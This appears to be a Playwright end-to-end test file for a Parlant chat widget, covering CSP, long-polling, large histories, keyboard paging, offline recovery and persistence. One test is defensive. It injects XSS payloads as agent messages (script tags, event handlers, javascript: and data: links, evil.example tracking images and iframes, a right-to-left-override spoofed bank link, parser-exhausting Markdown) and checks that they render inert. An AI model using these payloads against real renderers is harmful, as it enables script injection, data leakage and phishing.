import type { Server } from 'node:http';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { createParlantEmulator, type ParlantEmulator } from '../../src/testing';
import { startEmulatorServer, type EmulatorServer } from '../../src/testing/node';
import { buildHostApp, launchChromium, serveStatic } from './support';

vi.setConfig({ testTimeout: 45_000, hookTimeout: 120_000 });

let browser: Browser;
let host: { url: string; server: Server };
let app: { dispose(): void };
let emu: ParlantEmulator;
let parlant: EmulatorServer;
let context: BrowserContext;

const STRICT_CSP = (server: string) =>
  `default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src ${server}; base-uri 'none'; form-action 'none'`;

beforeAll(async () => {
  const built = await buildHostApp();
  app = built;
  browser = await launchChromium();
  host = await serveStatic(built.dir, (url) => (url.searchParams.get('csp') === 'strict' ? STRICT_CSP(url.searchParams.get('server') ?? '') : null));
}, 120_000);

afterAll(async () => {
  await browser?.close();
  host?.server.close();
  app?.dispose();
});

beforeEach(async () => {
  emu = createParlantEmulator({ timing: { stepMs: 20, handoffMs: 100 } });
  parlant = await startEmulatorServer({ emulator: emu, port: 0 });
  context = await browser.newContext();
});

afterEach(async () => {
  await context.close();
  await parlant.close();
  emu.close();
});

/** Opens the host page; collects console errors, page errors and CSP violations. */
async function open(params: Record<string, string> = {}): Promise<{ page: Page; problems: string[] }> {
  const page = await context.newPage();
  const problems: string[] = [];
  // Chromium logs every non-2xx response; a 504 is Parlant's normal answer to an idle long-poll.
  const idlePoll = (text: string) => text.includes('status of 504');
  page.on('console', (m) => void (m.type() === 'error' && !idlePoll(m.text()) && problems.push(`console: ${m.text()}`)));
  page.on('pageerror', (e) => void problems.push(`pageerror: ${e.message}`));
  page.on('dialog', (d) => {
    problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`));
  });
  const query = new URLSearchParams({ server: parlant.url, agent: emu.defaultAgentId, wait: '5', ...params });
  await page.goto(`${host.url}/?${query}`);
  return { page, problems };
}

const log = (page: Page) => page.getByRole('log', { name: 'Conversation' });
const inFlightPolls = () => emu.requests.filter((r) => r.method === 'GET' && r.path.endsWith('/events') && r.status === null).length;

describe('in Chromium against the emulator over HTTP', () => {
  it('completes an exchange with tool footnotes under a strict Content-Security-Policy', async () => {
    const { page, problems } = await open({ csp: 'strict', accent: '#0f766e' });
    await page.getByRole('textbox', { name: 'Message' }).fill('What is my balance?');
    await page.keyboard.press('Enter');
    await log(page).locator('li[data-role="agent"]').first().waitFor();
    await page.getByText(/tools? used/).click();
    await expect.poll(() => page.getByText('Arguments').isVisible()).toBe(true);
    // The theme prop applied through the CSSOM, which the policy allows: the bubble has the accent.
    const bubble = log(page).locator('li[data-role="customer"] .parlant-bubble');
    expect(await bubble.evaluate((el) => getComputedStyle(el).backgroundColor)).toBe('rgb(15, 118, 110)');
    expect(problems).toEqual([]);
  });

  it('renders hostile agent messages inert: nothing runs, nothing is fetched from the attacker', async () => {
    const session = emu.createSession();
    const { page, problems } = await open({ session: session.id, csp: 'strict' });
    const requests: string[] = [];
    page.on('request', (r) => void requests.push(r.url()));
    const hostile = [
      '<script>window.__pwned = 1</script><img src="https://evil.example/x.png" onerror="window.__pwned = 2">',
      '[click me](javascript:window.__pwned=3) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox)',
      '![tracker](https://evil.example/leak?q=secret) <iframe src="https://evil.example"></iframe>',
      '<svg onload="window.__pwned = 4"></svg> <style>body { display: none }</style>',
      `${'> '.repeat(3000)}deep ${'['.repeat(5000)}`,
      `${'- *nested* [link](https://evil.example/n)\n  '.repeat(2500)}`, // ~100 KB of nested Markdown
      'spoofed \u202Egnp.exe [https://bank.example](https://evil.example/phish)',
    ];
    for (const text of hostile) emu.agentSay(session.id, text);
    await expect.poll(() => log(page).locator('li[data-role="agent"]').count()).toBe(hostile.length);
    await page.getByRole('link', { name: 'https://bank.example' }).hover();
    expect(await page.getByRole('link', { name: 'https://bank.example' }).getAttribute('title')).toBe('evil.example');
    expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.locator('.parlant-chatbox script, .parlant-chatbox iframe, .parlant-chatbox svg:not([aria-hidden]), .parlant-chatbox img').count()).toBe(0);
    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
    expect(problems).toEqual([]);
  });

  it('keeps one long-poll for six tabs on the same session, and hands over when the polling tab closes', async () => {
    const session = emu.createSession();
    const tabs: Page[] = [];
    for (let i = 0; i < 6; i += 1) tabs.push((await open({ session: session.id })).page);
    await expect.poll(inFlightPolls, { timeout: 10_000 }).toBe(1);
    await tabs[5]?.getByRole('textbox', { name: 'Message' }).fill('from the sixth tab');
    await tabs[5]?.keyboard.press('Enter');
    for (const tab of tabs) await log(tab).locator('li[data-role="agent"]').first().waitFor();
    expect(emu.events(session.id).filter((e) => e.source === 'customer')).toHaveLength(1);

    const leaderPath = emu.requests.findLast((r) => r.status === null && r.path.endsWith('/events'));
    expect(leaderPath).toBeDefined();
    await tabs[0]?.close();
    await expect.poll(inFlightPolls, { timeout: 15_000 }).toBe(1);
    emu.agentSay(session.id, 'still here after the handover');
    for (const tab of tabs.slice(1)) await log(tab).getByText('still here after the handover').waitFor({ timeout: 15_000 });
  });

  it('keeps one long-poll for several widgets on one page showing the same session', async () => {
    const session = emu.createSession();
    const { page } = await open({ session: session.id, count: '3' });
    await expect.poll(inFlightPolls, { timeout: 10_000 }).toBe(1);
    emu.agentSay(session.id, 'seen by all three');
    await expect.poll(() => log(page).getByText('seen by all three').count()).toBe(3);
  });

  it('stays usable with a 10,000-event history and a 1 MB agent message', async () => {
    const session = emu.createSession();
    for (let i = 1; i <= 5000; i += 1) {
      emu.appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
      emu.appendEvent(session.id, { kind: 'status', source: 'ai_agent', status: 'ready' });
    }
    const { page, problems } = await open({ session: session.id });
    await log(page).getByText('history message 5000').waitFor({ timeout: 20_000 });
    // Only a window of the history is in the DOM.
    expect(await page.evaluate(() => document.getElementsByTagName('*').length)).toBeLessThan(2000);
    emu.agentSay(session.id, `${'A very long answer. '.repeat(52_429)}THE END`);
    await log(page).getByText(/THE END$/).waitFor({ timeout: 20_000 });
    await page.getByRole('textbox', { name: 'Message' }).fill('still here');
    await page.keyboard.press('Enter');
    await log(page).locator('li[data-role="customer"]').getByText('still here').waitFor();
    expect(problems).toEqual([]);
  });

  it('pages through a 2,000-message history with the keyboard alone, never holding more than 200 rows', async () => {
    const session = emu.createSession();
    for (let i = 1; i <= 2000; i += 1) emu.appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
    const { page, problems } = await open({ session: session.id });
    await page.getByText('history message 2000', { exact: true }).waitFor({ timeout: 20_000 });
    const rows = () => log(page).locator('li.parlant-message .parlant-bubble').allTextContents();
    const numbers = async () => (await rows()).map((text) => Number(/history message (\d+)/.exec(text)?.[1]));
    // Tab from the composer backwards to the focusable list, as a keyboard user would.
    await page.getByRole('textbox', { name: 'Message' }).focus();
    const onList = () => page.evaluate(() => document.activeElement?.classList.contains('parlant-scroller') ?? false);
    for (let i = 0; i < 5 && !(await onList()); i += 1) await page.keyboard.press('Shift+Tab');
    expect(await onList()).toBe(true);
    let most = 0;
    const walk = async (key: string, reached: () => Promise<boolean>) => {
      for (let i = 0; i < 60 && !(await reached()); i += 1) {
        await page.keyboard.press(key);
        await page.waitForTimeout(50);
        const shown = await numbers();
        most = Math.max(most, shown.length);
        // Always one unbroken run of the conversation, in order: what a screen reader reads.
        expect(shown).toEqual(shown.map((_, k) => (shown[0] as number) + k));
      }
    };
    await walk('Home', async () => (await numbers())[0] === 1);
    await expect.poll(() => page.getByText('history message 1', { exact: true }).isVisible()).toBe(true);
    await walk('End', async () => (await numbers()).at(-1) === 2000 && (await page.getByRole('button', { name: /Latest messages/ }).count()) === 0);
    await expect.poll(() => page.getByText('history message 2000', { exact: true }).isVisible()).toBe(true);
    expect(most).toBeGreaterThan(100);
    expect(most).toBeLessThanOrEqual(200);
    expect(problems).toEqual([]);
  }, 90_000);

  it('waits for the network while offline and delivers what it missed when back online', async () => {
    const session = emu.createSession();
    const { page } = await open({ session: session.id });
    await expect.poll(inFlightPolls).toBe(1);
    await context.setOffline(true);
    await page.evaluate(() => window.dispatchEvent(new Event('offline')));
    await expect.poll(() => page.getByRole('alert').textContent()).toContain('offline');
    emu.agentSay(session.id, 'sent while you were away');
    await context.setOffline(false);
    await page.evaluate(() => window.dispatchEvent(new Event('online')));
    await log(page).getByText('sent while you were away').waitFor({ timeout: 5000 });
    await expect.poll(() => page.getByRole('alert').count()).toBe(0);
    expect(await log(page).getByText('sent while you were away').count()).toBe(1);
  });

  it('resumes a persisted session with its history after a reload', async () => {
    const { page } = await open({ persist: 'local' });
    await page.getByRole('textbox', { name: 'Message' }).fill('remember this');
    await page.keyboard.press('Enter');
    await log(page).locator('li[data-role="agent"]').first().waitFor();
    await page.reload();
    await log(page).locator('li[data-role="customer"]').getByText('remember this').waitFor();
    expect(emu.countRequests('POST /sessions')).toBe(1);
    expect(page.url()).not.toMatch(/sess/);
  });
});
